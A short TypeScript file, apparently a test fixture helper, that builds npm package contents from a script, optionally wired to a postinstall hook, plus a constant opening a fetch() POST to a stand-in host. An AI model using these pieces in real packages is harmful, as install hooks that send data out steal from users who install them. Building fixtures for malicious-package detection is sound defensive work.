/** The files of an npm package: `main`, `lib` and `page` are its main file, `postinstall` what installing runs. */
export function packageOf(files: Readonly<Record<string, string>>): Readonly<Record<string, string>> {
  const { main, postinstall, lib, page, ...rest } = files;
  const script = main ?? postinstall ?? lib ?? page;
  if (script === undefined) return rest;
  const runs = postinstall === undefined ? { main: "a.js" } : { scripts: { postinstall: "node a.js" } };
  return { "package.json": JSON.stringify({ name: "demo", version: "1.0.0", ...runs }), "a.js": script, ...rest };
}

/** The beginning of a request that sends what follows, up to its closing brackets. */
export const SEND = "fetch('https://example.invalid/c', { method: 'POST', body: ";
